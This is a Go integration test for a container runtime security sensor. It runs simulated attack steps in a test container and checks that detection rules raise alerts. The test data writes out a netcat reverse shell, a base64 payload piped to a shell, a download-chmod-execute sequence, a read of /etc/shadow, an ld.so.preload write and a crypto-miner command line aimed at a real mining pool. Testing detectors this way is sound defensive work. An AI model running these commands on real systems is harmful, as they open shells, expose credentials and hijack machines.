package sensor_test

import (
	"os"
	"os/exec"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/detect"
	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/runctest"
	"github.com/vigil-sec/vigil/internal/sensor"
)

// Real attack steps in a real runc container, seen by the real sensor and
// judged by the built-in rules, raise the alerts a security team expects,
// attributed to that container. The steps are Defender's simulator's
// (web shell, miner download and drift, ld.so.preload, CPU optimisation)
// and the classics (reverse shell, base64 payload, shadow read, namespace).
// Many fail inside the container (no such applet, EPERM): the alerts are
// on intent and must fire anyway.
func TestAttacksRaiseAlerts(t *testing.T) {
	busybox, err := exec.LookPath("busybox")
	if err != nil {
		t.Fatal(err)
	}
	rs, err := detect.Load(detect.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var alerts []*event.Alert
	eng := detect.New(detect.Config{Rules: rs, Cluster: "test", Emit: func(a *event.Alert) {
		mu.Lock()
		alerts = append(alerts, a)
		mu.Unlock()
	}})

	r := startSensor(t, sensor.Config{})
	c := runctest.Start(t, runctest.Options{Overlay: true, Links: map[string]string{"/usr/sbin/php-fpm8.1": "/bin/busybox"}})
	time.Sleep(50 * time.Millisecond) // drops are strictly after the start

	steps := []struct {
		name  string
		setup func()
		args  []string
		want  []string // rule ids this step must raise
	}{
		{
			name: "web shell: php-fpm runs a shell that runs id",
			args: []string{"/bin/sh", "-c", `exec -a sh /usr/sbin/php-fpm8.1 -c "/bin/sh -c /bin/id"`},
			want: []string{"runtime.web-shell"},
		},
		{
			name: "base64 payload piped to a shell",
			args: []string{"/bin/sh", "-c", "echo aWQ= | base64 -d | sh"},
			want: []string{"runtime.base64-payload-to-shell"},
		},
		{
			name:  "dropped miner executes with a stratum pool",
			setup: func() { c.CopyIn(t, busybox, "/tmp/xmrig", 0o755) },
			args:  []string{"/tmp/xmrig", "--donate-level", "1", "-o", "stratum+tcp://pool.supportxmr.com:3333"},
			want:  []string{"runtime.drift-binary-executed", "runtime.crypto-miner-process", "runtime.crypto-miner-stratum"},
		},
		{
			name: "download, chmod +x and run",
			args: []string{"/bin/sh", "-c", "wget -q -T 1 -O /tmp/kinsing http://127.0.0.1:9/kinsing; cp /bin/busybox /tmp/kinsing; chmod +x /tmp/kinsing; /tmp/kinsing true"},
			want: []string{"runtime.download-chmod-exec"},
		},
		{
			name: "shadow read",
			args: []string{"/bin/cat", "/etc/shadow"},
			want: []string{"runtime.sensitive-file-access"},
		},
		{
			name: "ld.so.preload (touch is not even installed)",
			args: []string{"/bin/sh", "-c", "touch /etc/ld.so.preload"},
			want: []string{"runtime.ld-preload"},
		},
		{
			name: "CPU optimisation for mining (fails: no modules here)",
			args: []string{"/bin/sh", "-c", "modprobe msr allow_writes=on"},
			want: []string{"runtime.cpu-optimization"},
		},
		{
			name: "netcat reverse shell",
			args: []string{"/bin/nc", "-w", "1", "-e", "/bin/sh", "127.0.0.1", "9"},
			want: []string{"runtime.reverse-shell"},
		},
		{
			name: "new user namespace from a container",
			args: []string{"/bin/unshare", "-U", "/bin/true"},
			want: []string{"runtime.user-namespace-creation-from-container"},
		},
	}
	want := map[string]string{}
	for _, s := range steps {
		if s.setup != nil {
			s.setup()
		}
		out, err := c.Exec(t, s.args...)
		t.Logf("%s: %v (exit: %v) %s", s.name, s.args, err, strings.TrimSpace(out))
		for _, id := range s.want {
			want[id] = s.name
		}
	}

	// Feed the sensor's events to the engine until every expected rule
	// fired for this container.
	fed := 0
	deadline := time.Now().Add(20 * time.Second)
	var missing []string
	for {
		events := r.all()
		for _, e := range events[fed:] {
			eng.Process(e)
		}
		fed = len(events)
		mu.Lock()
		missing = missing[:0]
		for id := range want {
			if !slices.ContainsFunc(alerts, func(a *event.Alert) bool { return a.Rule == id && a.ContainerID == c.ID }) {
				missing = append(missing, id)
			}
		}
		mu.Unlock()
		if len(missing) == 0 || time.Now().After(deadline) {
			break
		}
		time.Sleep(200 * time.Millisecond)
	}
	sort.Strings(missing)
	for _, id := range missing {
		t.Errorf("no %s alert for step %q", id, want[id])
	}
	mu.Lock()
	defer mu.Unlock()
	for _, a := range alerts {
		if a.ContainerID != c.ID {
			// Only this test's own processes count (runc exec on the host
			// carries the container's command line): other tests may run
			// attacks of their own on this machine at the same time.
			if _, expected := want[a.Rule]; expected && ours(a.Process) {
				t.Errorf("%s raised outside the container (container %q): %v %q", a.Rule, a.ContainerID, a.Process.Exe, a.Process.Args)
			}
			continue
		}
		if len(a.Process.Args) > 1 && a.Process.Args[1] == "init" {
			t.Errorf("%s raised on the runtime's own init: %s %q", a.Rule, a.Process.Exe, a.Process.Args)
		}
		if a.Cluster != "test" || a.Process == nil || a.Process.Exe == "" || a.Process.Pid == 0 || a.ID == "" || a.FirstSeen.IsZero() {
			t.Errorf("%s: attribution incomplete: %+v", a.Rule, a)
		}
		t.Logf("alert %s [%s] pid %d %s %q", a.Rule, a.Severity, a.Process.Pid, a.Process.Exe, a.Process.Args)
	}
}

// ours reports whether p descends from this test process.
func ours(p *event.Process) bool {
	self := uint32(os.Getpid())
	if p.Ppid == self {
		return true
	}
	for _, a := range p.Ancestry {
		if a.Pid == self {
			return true
		}
	}
	return false
}
